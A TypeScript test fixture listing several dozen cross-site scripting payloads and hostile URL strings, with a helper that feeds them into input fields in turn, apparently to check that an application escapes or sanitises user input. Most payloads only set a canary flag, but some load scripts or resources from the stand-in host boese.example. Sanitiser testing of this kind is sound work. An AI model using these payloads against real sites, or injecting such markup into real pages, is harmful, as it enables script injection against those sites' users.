/** Texts that would run a script, load something or change the page if any page took them for markup. What runs sets `window.attacked`. */
export const ATTACKS: readonly string[] = [
  '<script>window.attacked=1</script>',
  '<ScRiPt src="https://boese.example/x.js"></sCrIpT>',
  '<img src=x onerror=window.attacked=1>',
  '<img src="https://boese.example/pixel.gif">',
  '"><img src=x onerror=window.attacked=1>',
  "' onmouseover='window.attacked=1' autofocus onfocus='window.attacked=1",
  '" autofocus onfocus="window.attacked=1" x="',
  '<svg/onload=window.attacked=1>',
  '<svg><animate onbegin=window.attacked=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.attacked=1"><text>x</text></a></svg>',
  '<body onload=window.attacked=1>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<iframe src="javascript:parent.attacked=1"></iframe>',
  '<a href="javascript:window.attacked=1">hier</a>',
  '<a href="java\tscript:window.attacked=1">hier</a>',
  '<a href="&#106;avascript:window.attacked=1">hier</a>',
  '<object data="https://boese.example/x.swf"></object>',
  '<embed src="https://boese.example/x.swf">',
  '<form action="https://boese.example/"><button formaction="javascript:window.attacked=1">ok</button></form>',
  '<base href="https://boese.example/">',
  '<link rel=stylesheet href="https://boese.example/x.css">',
  '<style>*{background:url(https://boese.example/x.png)}</style>',
  '<p style="background:url(https://boese.example/y.png)">x</p>',
  '<meta http-equiv="refresh" content="0;url=https://boese.example/">',
  '<details open ontoggle=window.attacked=1>x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.attacked=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">',
  '</script><script>window.attacked=1</script>',
  '</title></textarea></style><script>window.attacked=1</script>',
  '<!--><img src=x onerror=window.attacked=1>-->',
  '&lt;img src=x onerror=window.attacked=1&gt;',
  '&amp;lt;script&amp;gt;window.attacked=1&amp;lt;/script&amp;gt;',
  '<xss-demo>x</xss-demo>',
  '{{constructor.constructor("window.attacked=1")()}}',
  ']]><script>window.attacked=1</script>',
];

/** For fields that hold an address. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'javascript:window.attacked=1',
  'JaVaScRiPt:window.attacked=1//https://demo.example/',
  ' javascript:window.attacked=1',
  'data:text/html,<script>parent.attacked=1</script>',
  'vbscript:msgbox(1)',
  'https://demo.example/"onmouseover="window.attacked=1',
];

/** Hands the attacks out in turn, so that every one comes into many fields. */
export class AttacksInTurn {
  private texts = 0;
  private addresses = 0;

  text(): string {
    return ATTACKS[this.texts++ % ATTACKS.length] ?? '';
  }

  address(): string {
    return HOSTILE_ADDRESSES[this.addresses++ % HOSTILE_ADDRESSES.length] ?? '';
  }
}
